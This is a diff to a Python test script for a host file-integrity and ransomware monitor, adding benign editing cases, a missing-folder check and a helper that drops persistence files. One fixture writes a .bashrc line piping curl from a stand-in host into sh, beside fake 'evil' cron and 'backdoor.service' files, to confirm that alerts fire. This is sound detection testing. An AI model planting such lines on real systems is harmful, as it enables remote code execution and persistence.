@@ -8,9 +8,12 @@ loop, every event printed as an EVE JSON line).
   the writing program; with inotify alone it still comes.
 - normal editing: a handful of text files saved again and again (in place and the editor
   way, through a swap file renamed over), new documents (text and a zip-based .docx), a
-  copied folder of text files: fim events, no ransomware alert.
+  copied folder of text files made a git repository, an archive of photos and notes
+  unpacked, a folder of random data moved in and its files' modes changed: fim events, no
+  ransomware alert.
 - persistence: a file dropped into a watched "etc/cron.d", a unit file in a folder created
-  while watching, a new set-user-ID file: persistence alerts.
+  while watching, a new set-user-ID file, a profile script, a user's .bashrc: persistence
+  alerts.
 - stop_process (root with fanotify only): the encrypting script is paused (SIGSTOP).
 
 With a second argument, the ransomware, editing and stop_process cases run through
@@ -241,10 +244,25 @@ def editing_case(base):
             f.write(text(3000, 100 + i))
     with zipfile.ZipFile(os.path.join(docs, "letter.docx"), "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("word/document.xml", text(20000, 7))
+    # Unpacking an archive of documents and photos.
+    arch = os.path.join(base, "photos.zip")
+    with zipfile.ZipFile(arch, "w", zipfile.ZIP_DEFLATED) as z:
+        for i in range(40):
+            z.writestr("trip/IMG_%04d.jpg" % i, os.urandom(6000))
+            z.writestr("trip/notes%02d.txt" % i, text(3000, 200 + i))
+    with zipfile.ZipFile(arch) as z:
+        z.extractall(os.path.join(docs, "unzipped"))
     shutil.copytree(src, os.path.join(docs, "copied"))
     os.makedirs(os.path.join(docs, "copied", "sub"))
     with open(os.path.join(docs, "copied", "sub", "later.txt"), "w") as f:
         f.write(text(2000, 9))
+    # A repository made in the share: git's compressed objects are not counted.
+    if shutil.which("git"):
+        repo = os.path.join(docs, "copied")
+        env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid",
+                   GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.invalid")
+        for cmd in (["init", "-q"], ["add", "."], ["commit", "-qm", "docs"]):
+            subprocess.run(["git", "-C", repo] + cmd, env=env, check=True)
     # A folder of random-looking files moved in (not rewritten): added, not counted.
     packed = os.path.join(base, "packed-outside")
     os.makedirs(packed)
@@ -253,6 +271,9 @@ def editing_case(base):
             f.write(os.urandom(4096))
     time.sleep(0.2)
     os.rename(packed, os.path.join(docs, "moved-in"))
+    time.sleep(0.3)
+    for name in os.listdir(os.path.join(docs, "moved-in")):  # chmod -R rewrites nothing
+        os.chmod(os.path.join(docs, "moved-in", name), 0o600)
     mon.drain(2.5)
     mon.stop()
     check(any(f["path"].endswith("/moved-in/chunk07.bin") and f["change"] == "added"
@@ -268,6 +289,18 @@ def editing_case(base):
           "editing: saving in place is a modification")
 
 
+def drop(mon, root, rel, content, what):
+    """Writes root/rel (making its folders) and expects a persistence alert naming it."""
+    path = os.path.join(root, rel)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    time.sleep(0.3)  # the monitor adds watches for the new folders
+    with open(path, "w") as f:
+        f.write(content)
+    mon.drain(1)
+    check(any(a["fim"]["path"] == path for a in mon.alerts(2102)),
+          "persistence: %s raises an alert" % what)
+
+
 def persistence_case(base):
     root = os.path.join(base, "host")
     os.makedirs(os.path.join(root, "etc", "cron.d"))
@@ -279,27 +312,17 @@ def persistence_case(base):
     got = mon.wait_alert(2102, 5)
     check(got is not None and got[1]["fim"]["path"].endswith("/etc/cron.d/evil"),
           "persistence: a new cron file raises YJ-HOST-2102: %r" % (got,))
-    units = os.path.join(root, "etc", "systemd", "system")
-    os.makedirs(units)
-    time.sleep(0.3)  # the new folders are watched as they appear
-    with open(os.path.join(units, "backdoor.service"), "w") as f:
-        f.write("[Service]\nExecStart=/tmp/x\n")
-    mon.drain(1)
-    check(any(a["fim"]["path"].endswith("/backdoor.service") for a in mon.alerts(2102)),
-          "persistence: a unit in a folder created while watching raises an alert")
+    # Folders created while watching are watched as they appear.
+    drop(mon, root, "etc/systemd/system/backdoor.service", "[Service]\nExecStart=/tmp/x\n",
+         "a unit in a folder created while watching")
+    drop(mon, root, "etc/profile.d/zz.sh", "export X=1\n", "a shell profile script")
+    drop(mon, root, "home/alice/.bashrc", "curl -s http://example.invalid/x | sh\n",
+         "a user's .bashrc")
     shell = os.path.join(root, "tmp-shell")
     shutil.copy("/bin/true", shell)
     os.chmod(shell, 0o4755)
     got = mon.wait_alert(2103, 5)
     check(got is not None, "persistence: a new set-user-ID file raises YJ-HOST-2103")
-    profile = os.path.join(root, "etc", "profile.d")
-    os.makedirs(profile)
-    time.sleep(0.3)
-    with open(os.path.join(profile, "zz.sh"), "w") as f:
-        f.write("export X=1\n")
-    mon.drain(1)
-    check(any(a["fim"]["path"].endswith("/profile.d/zz.sh") for a in mon.alerts(2102)),
-          "persistence: a shell profile script raises an alert")
     mon.stop()
     check(mon.alerts(RANSOM) == [], "persistence: no ransomware alert")
 
@@ -343,6 +366,22 @@ def gaps_case(base):
     check(re.search(r"overflows [1-9]", err) is not None, "gaps: counted: %s" % err)
 
 
+def missing_case(base):
+    """A data folder that does not exist stops the start with its name."""
+    gone = os.path.join(base, "no-such-share")
+    if YOJIN:
+        data = os.path.join(base, "missing-data")
+        log = os.path.join(base, "missing.log")
+        open(log, "w").close()
+        cmd = [YOJIN, "--data", data, "--lang", "en", "watch", "--dir", gone, "--eve", "-",
+               "--no-journal", "--log", log, "--seconds", "1"]
+    else:
+        cmd = [DRIVER, "--lang", "en", "--data", gone, "--system", base]
+    p = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
+    check(p.returncode == 1 and gone in p.stderr and "does not exist" in p.stderr,
+          "a missing data folder is an error naming it (%d): %s" % (p.returncode, p.stderr))
+
+
 def stop_case(base):
     share = os.path.join(base, "share-stop")
     make_docs(share, 400)
@@ -381,6 +420,7 @@ def main():
         if not YOJIN:
             ransomware_case(base, False)
         editing_case(base)
+        missing_case(base)
         if not YOJIN:
             persistence_case(base)
             gaps_case(base)
